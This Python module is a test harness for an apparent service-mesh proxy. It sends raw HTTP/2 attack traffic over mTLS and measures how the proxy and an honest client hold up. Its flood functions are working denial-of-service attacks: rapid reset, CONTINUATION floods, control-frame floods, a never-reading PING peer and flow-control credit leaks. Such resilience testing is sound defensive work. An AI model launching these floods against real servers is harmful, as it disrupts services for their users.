"""A hostile HBONE peer: raw HTTP/2 frames over mTLS with a valid mesh certificate.

Counterparts: the attacks of issue 8 and their public names: rapid reset (CVE-2023-44487),
CONTINUATION floods (CVE-2024-27316 class: oversized and endless header blocks), the control-
frame floods nghttp2 and Envoy budget (SETTINGS, PING, WINDOW_UPDATE, RST_STREAM, empty DATA
frames), a peer that never reads while sending PINGs, and aborted uploads to a slow app (flow-
control credit that must come back however a stream ends). Frames are written with `hyperframe`
and header blocks encoded with `hpack` (both already dependencies through h2); nothing here goes
through an HTTP/2 state machine, so the attacker can send what a conforming client never would.

Everything is bounded: each attack has a frame budget and a time budget, reads are bounded by
`MAX_FRAME_PAYLOAD_BYTES`, and every socket has a timeout. Used by tests/netns/test_attack_*.py
(what the proxy does) and bench/attack_bench.py (what an honest client sees meanwhile).
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from ambient_mesh.host.netns import entered, netns_socket
from ambient_mesh.identity.certificate import WorkloadCertificate

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEADER_BYTES = 9
DEFAULT_MAX_FRAME_BYTES = 16384  # RFC 9113 §4.2: every peer accepts frames this large
MAX_FRAME_PAYLOAD_BYTES = 16 * 1024 * 1024  # we never accept more from the proxy in one frame
MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65535
CANCEL = 0x8
IO_TIMEOUT_S = 5.0
READ_BYTES = 1 << 20

ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}


class PeerClosed(ConnectionError):
    pass


class H2Peer:
    """One raw HTTP/2 client connection over HBONE's mTLS (synchronous, every call bounded)."""

    def __init__(self, sock: ssl.SSLSocket) -> None:
        self.sock = sock
        self.buffer = bytearray()
        self.frames_sent = 0
        self.bytes_sent = 0
        self.received: Counter[str] = Counter()
        self.goaway: GoAwayFrame | None = None
        self.goaway_after_frames: int | None = None
        self.closed = False
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.send_window = DEFAULT_WINDOW
        self.initial_stream_window = DEFAULT_WINDOW
        self.max_frame_bytes = DEFAULT_MAX_FRAME_BYTES  # the proxy's SETTINGS_MAX_FRAME_SIZE
        self.stream_windows: dict[int, int] = {}
        self.responses: dict[int, int] = {}  # stream id -> :status
        self.resets: dict[int, int] = {}  # stream id -> error code
        self.data: dict[int, bytearray] = {}
        self.ended: set[int] = set()
        self.authority = ""  # the CONNECT target of the rapid-reset streams
        self.stalled = False  # a write timed out: the proxy stopped reading this connection

    @classmethod
    def open(
        cls,
        cert: WorkloadCertificate,
        host: str,
        port: int,
        *,
        netns: str | None = None,
        rcvbuf_bytes: int | None = None,
        timeout_s: float = IO_TIMEOUT_S,
        large_windows: bool = True,
    ) -> H2Peer:
        raw = netns_socket(netns) if netns else socket.socket()
        try:
            if rcvbuf_bytes is not None:
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf_bytes)
            raw.settimeout(timeout_s)
            raw.connect((host, port))
            # Imported here: `--slow-app` runs this file as a script, where `tests` is no package.
            from tests.helpers.tls_stdlib import stdlib_client_context

            tls = stdlib_client_context(cert).wrap_socket(raw, server_hostname=None)
        except BaseException:
            raw.close()
            raise
        peer = cls(tls)
        if large_windows:
            # Our receive windows as large as allowed: the attacks study the proxy, not us.
            peer.send(
                PREFACE,
                SettingsFrame(
                    0, settings={SettingsFrame.ENABLE_PUSH: 0, SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW}
                ),
                WindowUpdateFrame(0, window_increment=MAX_WINDOW - DEFAULT_WINDOW),
            )
        else:
            peer.send(PREFACE, SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}))
        return peer

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def __enter__(self) -> H2Peer:
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    # --- sending ---

    def send(self, *items: bytes | Frame, count: bool = True) -> None:
        """Write frames (or raw bytes) in one go; raises PeerClosed when the proxy has closed."""
        data = b"".join(i if isinstance(i, bytes | bytearray) else i.serialize() for i in items)
        try:
            self.sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError) as e:
            self.closed = True
            raise PeerClosed(f"proxy closed the connection: {e}") from e
        if count:
            self.frames_sent += sum(1 for i in items if not isinstance(i, bytes | bytearray))
        self.bytes_sent += len(data)

    def headers_block(self, headers: list[tuple[str, str]]) -> bytes:
        return self.encoder.encode(headers)

    def connect_headers(self, stream_id: int, authority: str, *, end_headers: bool = True) -> HeadersFrame:
        frame = HeadersFrame(
            stream_id, data=self.headers_block([(":method", "CONNECT"), (":authority", authority)])
        )
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame

    def send_data(self, stream_id: int, data: bytes, *, timeout_s: float = IO_TIMEOUT_S) -> int:
        """DATA within the proxy's connection and stream windows; returns bytes sent before the
        windows stayed shut for `timeout_s` (a leaked window shows up as a short count)."""
        sent = 0
        deadline = time.monotonic() + timeout_s
        window = self.stream_windows.setdefault(stream_id, self.initial_stream_window)
        while sent < len(data):
            window = self.stream_windows[stream_id]
            n = min(len(data) - sent, self.send_window, window, DEFAULT_MAX_FRAME_BYTES)
            if n <= 0:
                if time.monotonic() >= deadline or self.closed:
                    break
                self.poll(0.05)
                continue
            try:
                self.send(DataFrame(stream_id, data=data[sent : sent + n]))
            except TimeoutError:
                self.stalled = True  # the proxy stopped reading the connection
                break
            self.send_window -= n
            self.stream_windows[stream_id] -= n
            sent += n
        return sent

    # --- receiving ---

    def poll(self, timeout_s: float = 0.0) -> list[Frame]:
        """Read what has arrived within `timeout_s` and handle it; returns the frames read."""
        self.sock.settimeout(max(timeout_s, 0.001))
        try:
            chunk = self.sock.recv(READ_BYTES)
            if not chunk:
                self.closed = True
            self.buffer += chunk
            self.sock.settimeout(0.001)
            while chunk and self.sock.pending():
                chunk = self.sock.recv(READ_BYTES)
                self.buffer += chunk
        except (TimeoutError, ssl.SSLWantReadError, BlockingIOError):
            pass
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
            self.closed = True
        finally:
            self.sock.settimeout(IO_TIMEOUT_S)  # writes keep their full timeout
        return self._parse()

    def _parse(self) -> list[Frame]:
        frames = []
        while len(self.buffer) >= FRAME_HEADER_BYTES:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:FRAME_HEADER_BYTES]))
            if length > MAX_FRAME_PAYLOAD_BYTES:
                raise PeerClosed(f"proxy sent a {length}-byte frame")
            if len(self.buffer) < FRAME_HEADER_BYTES + length:
                break
            frame.parse_body(memoryview(self.buffer[FRAME_HEADER_BYTES : FRAME_HEADER_BYTES + length]))
            del self.buffer[: FRAME_HEADER_BYTES + length]
            self._handle(frame)
            frames.append(frame)
        return frames

    def _handle(self, frame: Frame) -> None:
        self.received[frame.type] += 1
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            if SettingsFrame.INITIAL_WINDOW_SIZE in frame.settings:
                self.initial_stream_window = frame.settings[SettingsFrame.INITIAL_WINDOW_SIZE]
            if SettingsFrame.MAX_FRAME_SIZE in frame.settings:
                self.max_frame_bytes = frame.settings[SettingsFrame.MAX_FRAME_SIZE]
            with contextlib.suppress(PeerClosed):
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack, count=False)
        elif isinstance(frame, WindowUpdateFrame):
            if frame.stream_id == 0:
                self.send_window += frame.window_increment
            else:
                self.stream_windows[frame.stream_id] = (
                    self.stream_windows.get(frame.stream_id, self.initial_stream_window)
                    + frame.window_increment
                )
        elif isinstance(frame, HeadersFrame):
            for name, value in self.decoder.decode(frame.data):
                if name == ":status":
                    self.responses[frame.stream_id] = int(value)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, DataFrame):
            self.data.setdefault(frame.stream_id, bytearray()).extend(frame.data)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, GoAwayFrame) and self.goaway is None:
            self.goaway = frame
            self.goaway_after_frames = self.frames_sent

    def wait(self, predicate: Callable[[], bool], timeout_s: float = IO_TIMEOUT_S) -> bool:
        deadline = time.monotonic() + timeout_s
        while not predicate():
            if self.closed or time.monotonic() >= deadline:
                return predicate()
            self.poll(0.05)
        return True

    def open_tunnel(self, stream_id: int, authority: str, timeout_s: float = IO_TIMEOUT_S) -> int | None:
        """CONNECT and wait for the answer; returns the :status (None: no answer in time)."""
        self.send(self.connect_headers(stream_id, authority))
        self.wait(lambda: stream_id in self.responses or stream_id in self.resets, timeout_s)
        return self.responses.get(stream_id)

    @property
    def goaway_reason(self) -> str:
        if self.goaway is None:
            return ""
        return bytes(self.goaway.additional_data).decode("ascii", "replace")

    @property
    def goaway_code(self) -> str | None:
        if self.goaway is None:
            return None
        return ERROR_NAMES.get(self.goaway.error_code, hex(self.goaway.error_code))


# --- the floods ------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """The proxy under attack (its HBONE address) and the app authorities behind it."""

    host: str
    port: int
    echo_authority: str  # an app that echoes
    slow_authority: str  # an app that accepts and never reads
    netns: str | None = None  # where the attacker's sockets live
    echo_preamble: bytes = b""  # sent first on an echo tunnel and not echoed (the bench server's command)


@dataclass(frozen=True, slots=True, kw_only=True)
class Flood:
    """One attack: `setup` prepares the connection, `unit(peer, i)` is the i-th burst of frames."""

    name: str
    what: str
    unit: Callable[[H2Peer, int], list[Frame]]
    max_units: int
    batch_units: int
    setup: Callable[[H2Peer, Target], None] | None = None
    reads: bool = True  # False: the attacker never reads (the no-read PING attack)
    rcvbuf_bytes: int | None = None
    large_windows: bool = True  # False: default windows, so +1 increments cannot overflow


@dataclass(frozen=True, slots=True, kw_only=True)
class Outcome:
    name: str
    frames_sent: int
    bytes_sent: int
    ended_by: str  # "goaway", "close", "stalled" (the proxy stopped reading), "budget"
    goaway_code: str | None
    goaway_after_frames: int | None  # frames we had sent when its GOAWAY arrived (upper bound)
    goaway_reason: str  # the GOAWAY's debug data: what the proxy says it counted
    seconds: float
    received: dict[str, int] = field(default_factory=dict)
    responses: int = 0  # CONNECT answers the proxy sent during the attack

    def row(self) -> dict:
        return {
            "attack": self.name,
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "ended_by": self.ended_by,
            "goaway": self.goaway_code,
            "goaway_after_frames": self.goaway_after_frames,
            "goaway_reason": self.goaway_reason,
            "seconds": round(self.seconds, 3),
            "received": dict(self.received),
            "responses": self.responses,
        }


def _rapid_reset(peer: H2Peer, i: int) -> list[Frame]:
    sid = 2 * i + 1
    headers = peer.connect_headers(sid, peer.authority)
    return [headers, RstStreamFrame(sid, error_code=CANCEL)]


def _big_literal_prefix(value_bytes: int) -> bytes:
    """HPACK literal without indexing, new name `x-big`, a non-Huffman value of `value_bytes`."""
    name = b"x-big"
    out = bytearray(b"\x00") + bytes([len(name)]) + name
    # RFC 7541 §5.1 integer with a 7-bit prefix
    if value_bytes < 127:
        out.append(value_bytes)
    else:
        out.append(127)
        rest = value_bytes - 127
        while rest >= 128:
            out.append(rest % 128 + 128)
            rest //= 128
        out.append(rest)
    return bytes(out)


OVERSIZED_BLOCK_BYTES = 64 * 1024 * 1024  # what h2's 64-CONTINUATION limit let through with 1 MiB frames
OVERSIZED_FRAME_MAX_BYTES = 1024 * 1024


def _continuation_oversized(peer: H2Peer, i: int) -> list[Frame]:
    """Frames as large as the proxy allows (at most 1 MiB), up to a 64 MiB block, never ended."""
    size = min(peer.max_frame_bytes, OVERSIZED_FRAME_MAX_BYTES)
    if i >= OVERSIZED_BLOCK_BYTES // size:
        return []
    chunk = b"a" * size
    if i == 0:
        prefix = _big_literal_prefix(OVERSIZED_BLOCK_BYTES)
        return [HeadersFrame(1, data=prefix + chunk[: size - len(prefix)])]
    return [ContinuationFrame(1, data=chunk)]


def _continuation_endless(peer: H2Peer, i: int) -> list[Frame]:
    if i == 0:
        return [HeadersFrame(1, data=b"")]
    return [ContinuationFrame(1, data=b"")]


def _settings(peer: H2Peer, i: int) -> list[Frame]:
    return [SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})]


def _ping(peer: H2Peer, i: int) -> list[Frame]:
    return [PingFrame(0, opaque_data=i.to_bytes(8, "big"))]


def _window_update(peer: H2Peer, i: int) -> list[Frame]:
    return [WindowUpdateFrame(0, window_increment=1)]


def _rst_closed_stream(peer: H2Peer, i: int) -> list[Frame]:
    return [RstStreamFrame(1, error_code=CANCEL)]


def _empty_data(peer: H2Peer, i: int) -> list[Frame]:
    return [DataFrame(1, data=b"")]


def _setup_reset_stream(peer: H2Peer, target: Target) -> None:
    peer.send(peer.connect_headers(1, target.echo_authority), RstStreamFrame(1, error_code=CANCEL))


def _setup_open_tunnel(peer: H2Peer, target: Target) -> None:
    status = peer.open_tunnel(1, target.echo_authority)
    if status != 200:
        raise PeerClosed(f"the tunnel to flood with empty DATA was answered {status}")


FLOODS: dict[str, Flood] = {
    f.name: f
    for f in (
        Flood(
            name="rapid_reset",
            what="CONNECT then RST_STREAM(CANCEL) at once, stream after stream",
            unit=_rapid_reset,
            max_units=10_000,
            batch_units=10,
        ),
        Flood(
            name="continuation_oversized",
            what="one header block in CONTINUATION frames of the largest size allowed, up to 64 MiB, never ended",
            unit=_continuation_oversized,
            max_units=OVERSIZED_BLOCK_BYTES // DEFAULT_MAX_FRAME_BYTES,
            batch_units=4,
        ),
        Flood(
            name="continuation_endless",
            what="HEADERS without END_HEADERS, then empty CONTINUATION frames",
            unit=_continuation_endless,
            max_units=100_000,
            batch_units=50,
        ),
        Flood(
            name="settings_flood", what="SETTINGS frames", unit=_settings, max_units=100_000, batch_units=50
        ),
        Flood(name="ping_flood", what="PING frames", unit=_ping, max_units=100_000, batch_units=50),
        Flood(
            name="window_update_flood",
            what="WINDOW_UPDATE(+1) on the connection",
            unit=_window_update,
            max_units=100_000,
            batch_units=50,
            large_windows=False,
        ),
        Flood(
            name="rst_stream_flood",
            what="RST_STREAM on an already reset stream",
            unit=_rst_closed_stream,
            max_units=100_000,
            batch_units=50,
            setup=_setup_reset_stream,
        ),
        Flood(
            name="empty_data_flood",
            what="empty DATA frames (no END_STREAM) on an open tunnel",
            unit=_empty_data,
            max_units=100_000,
            batch_units=50,
            setup=_setup_open_tunnel,
        ),
        Flood(
            name="ping_no_read",
            what="PINGs from a peer that never reads (4 KiB receive buffer)",
            unit=_ping,
            max_units=200_000,
            batch_units=100,
            reads=False,
            rcvbuf_bytes=4096,
        ),
    )
}


def run_flood(
    flood: Flood,
    cert: WorkloadCertificate,
    target: Target,
    *,
    max_seconds: float = 20.0,
    settle_s: float = 2.0,
) -> Outcome:
    """Run one flood until the proxy sends GOAWAY or closes, or the budgets run out."""
    start = time.monotonic()
    deadline = start + max_seconds
    ended_by = "budget"
    with H2Peer.open(
        cert,
        target.host,
        target.port,
        netns=target.netns,
        rcvbuf_bytes=flood.rcvbuf_bytes,
        large_windows=flood.large_windows,
    ) as peer:
        peer.authority = target.echo_authority
        if flood.reads:
            peer.poll(0.2)  # the proxy's SETTINGS
        if flood.setup is not None:
            flood.setup(peer, target)
        peer.sock.settimeout(IO_TIMEOUT_S)
        unit = 0
        try:
            while unit < flood.max_units and time.monotonic() < deadline:
                frames = []
                for _ in range(min(flood.batch_units, flood.max_units - unit)):
                    frames += flood.unit(peer, unit)
                    unit += 1
                if not frames:
                    break  # the flood's own byte budget is spent
                peer.sock.settimeout(IO_TIMEOUT_S)
                try:
                    peer.send(*frames)
                except TimeoutError:
                    ended_by = "stalled"
                    break
                if flood.reads:
                    peer.poll(0)
                    if peer.goaway is not None:
                        ended_by = "goaway"
                        break
                    if peer.closed:
                        ended_by = "close"
                        break
        except PeerClosed:
            ended_by = "close"
        # What the proxy said last: read until it closes (bounded), GOAWAY included.
        settle = time.monotonic() + settle_s
        while not peer.closed and time.monotonic() < settle:
            peer.poll(0.1)
        if peer.goaway is not None and ended_by in ("budget", "close", "stalled"):
            ended_by = "goaway" if ended_by == "budget" or flood.reads else ended_by
        if ended_by == "budget" and peer.closed:
            ended_by = "close"
        return Outcome(
            name=flood.name,
            frames_sent=peer.frames_sent,
            bytes_sent=peer.bytes_sent,
            ended_by=ended_by,
            goaway_code=peer.goaway_code,
            goaway_after_frames=peer.goaway_after_frames,
            goaway_reason=peer.goaway_reason,
            seconds=time.monotonic() - start,
            received={_FRAME_NAMES.get(k, str(k)): v for k, v in peer.received.items()},
            responses=len(peer.responses),
        )


_FRAME_NAMES = {
    0x0: "DATA",
    0x1: "HEADERS",
    0x3: "RST_STREAM",
    0x4: "SETTINGS",
    0x6: "PING",
    0x7: "GOAWAY",
    0x8: "WINDOW_UPDATE",
    0x9: "CONTINUATION",
}


# --- aborted uploads to a slow app (flow-control credit) --------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class CreditOutcome:
    uploads: int
    upload_bytes_each: int
    bytes_uploaded: int
    echo_bytes_sent: int
    echo_bytes_back: int
    goaway_code: str | None
    stalled_at_upload: int | None  # the proxy stopped reading the connection during this upload
    seconds: float

    def row(self) -> dict:
        return {
            "attack": "aborted_uploads",
            "uploads": self.uploads,
            "stalled_at_upload": self.stalled_at_upload,
            "upload_bytes_each": self.upload_bytes_each,
            "bytes_uploaded": self.bytes_uploaded,
            "echo_bytes_sent": self.echo_bytes_sent,
            "echo_bytes_back": self.echo_bytes_back,
            "goaway": self.goaway_code,
            "seconds": round(self.seconds, 3),
        }


def run_aborted_uploads(
    cert: WorkloadCertificate,
    target: Target,
    *,
    uploads: int = 24,
    upload_bytes: int = 1024 * 1024,
    echo_bytes: int = 256 * 1024,
    timeout_s: float = 10.0,
) -> CreditOutcome:
    """Upload `upload_bytes` to an app that never reads, reset the stream, `uploads` times (more
    than the proxy's 16 MiB connection window in total); then a tunnel on the same connection
    must still carry `echo_bytes` both ways. An ordinary client does this, no attacker needed."""
    start = time.monotonic()
    payload = bytes(range(256)) * (upload_bytes // 256)
    uploaded = 0
    with H2Peer.open(cert, target.host, target.port, netns=target.netns) as peer:
        peer.poll(0.2)
        sid = 1
        stalled_at = None
        for k in range(uploads):
            if peer.open_tunnel(sid, target.slow_authority) != 200:
                break
            uploaded += peer.send_data(sid, payload, timeout_s=1.0)
            if peer.stalled:
                stalled_at = k
                break
            peer.send(RstStreamFrame(sid, error_code=CANCEL))
            sid += 2
        echo = bytes(reversed(range(256))) * (echo_bytes // 256)
        sent = back = 0
        if stalled_at is None and peer.open_tunnel(sid, target.echo_authority) == 200:
            if target.echo_preamble:
                peer.send_data(sid, target.echo_preamble, timeout_s=timeout_s)
            sent = peer.send_data(sid, echo, timeout_s=timeout_s)
            peer.wait(lambda: len(peer.data.get(sid, b"")) >= sent, timeout_s)
            back = len(peer.data.get(sid, b""))
        return CreditOutcome(
            uploads=uploads,
            upload_bytes_each=upload_bytes,
            bytes_uploaded=uploaded,
            echo_bytes_sent=sent,
            echo_bytes_back=back,
            goaway_code=peer.goaway_code,
            stalled_at_upload=stalled_at,
            seconds=time.monotonic() - start,
        )


# --- watching: the proxy's memory and an honest client ------------------------------------------------


def rss_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise ProcessLookupError(f"no VmRSS for pid {pid}")


class RssWatch:
    """Samples a process's VmRSS every `interval_s` in a thread; `peak` and `baseline` in bytes."""

    def __init__(self, pid: int, interval_s: float = 0.02) -> None:
        self.pid = pid
        self.interval_s = interval_s
        self.baseline = rss_bytes(pid)
        self.peak = self.baseline
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(ProcessLookupError, FileNotFoundError):
                self.peak = max(self.peak, rss_bytes(self.pid))
            self._stop.wait(self.interval_s)

    def __enter__(self) -> RssWatch:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


class HonestClient:
    """Round trips of `payload` over one TCP connection (from `netns`) in a thread, each timed.

    `preamble` is sent once first (the bench server's echo command). Bounded: at most
    `max_round_trips`, each at most `timeout_s`; a failure is recorded and ends the loop."""

    def __init__(
        self,
        host: str,
        port: int,
        *,
        netns: str | None = None,
        preamble: bytes = b"",
        payload: bytes = b"p" * 64,
        timeout_s: float = IO_TIMEOUT_S,
        max_round_trips: int = 1_000_000,
        pause_s: float = 0.0,
    ) -> None:
        self.host, self.port, self.netns = host, port, netns
        self.preamble, self.payload, self.timeout_s = preamble, payload, timeout_s
        self.max_round_trips = max_round_trips
        self.pause_s = pause_s
        self.samples_ns: list[int] = []
        self.error: str | None = None
        self._stop = threading.Event()
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        try:
            with contextlib.ExitStack() as stack:
                if self.netns:
                    stack.enter_context(entered(self.netns))
                sock = stack.enter_context(socket.create_connection((self.host, self.port), self.timeout_s))
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                if self.preamble:
                    sock.sendall(self.preamble)
                self._ready.set()
                for _ in range(self.max_round_trips):
                    if self._stop.is_set():
                        break
                    t = time.perf_counter_ns()
                    sock.sendall(self.payload)
                    got = 0
                    while got < len(self.payload):
                        chunk = sock.recv(len(self.payload) - got)
                        if not chunk:
                            raise ConnectionError(f"tunnel closed after {len(self.samples_ns)} round trips")
                        got += len(chunk)
                    self.samples_ns.append(time.perf_counter_ns() - t)
                    if self.pause_s:
                        self._stop.wait(self.pause_s)
        except OSError as e:
            self.error = f"{type(e).__name__}: {e}"
        finally:
            self._ready.set()

    def __enter__(self) -> HonestClient:
        self._thread.start()
        self._ready.wait(self.timeout_s)
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(self.timeout_s + 1)

    def count(self) -> int:
        return len(self.samples_ns)

    def percentiles_us(self, since: int = 0) -> dict[str, float]:
        s = sorted(self.samples_ns[since:])
        if not s:
            return {"p50_us": float("nan"), "p99_us": float("nan"), "max_us": float("nan"), "count": 0}
        return {
            "p50_us": s[len(s) // 2] / 1000,
            "p99_us": s[min(len(s) - 1, int(len(s) * 0.99))] / 1000,
            "max_us": s[-1] / 1000,
            "count": len(s),
        }


# --- a never-reading app (the slow app of the credit-leak case) -----------------------------------

SLOW_APP_LIFETIME_S = 600.0
SLOW_APP_RCVBUF_BYTES = 4096


def run_slow_app(port: int) -> int:
    """Accept on [::]:`port` and never read; hold every connection until killed (or the lifetime
    ends). A small receive buffer keeps the proxy's bytes for it unacknowledged."""
    listener = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SLOW_APP_RCVBUF_BYTES)
    listener.bind(("::", port))
    listener.listen(256)
    listener.settimeout(SLOW_APP_LIFETIME_S)
    print(f"listening {port}", flush=True)
    held = []
    end = time.monotonic() + SLOW_APP_LIFETIME_S
    while time.monotonic() < end:
        try:
            conn, _ = listener.accept()
        except OSError:
            break
        held.append(conn)
    return 0


if __name__ == "__main__":
    import sys

    if len(sys.argv) != 3 or sys.argv[1] != "--slow-app":
        raise SystemExit("usage: h2attack.py --slow-app PORT")
    sys.exit(run_slow_app(int(sys.argv[2])))
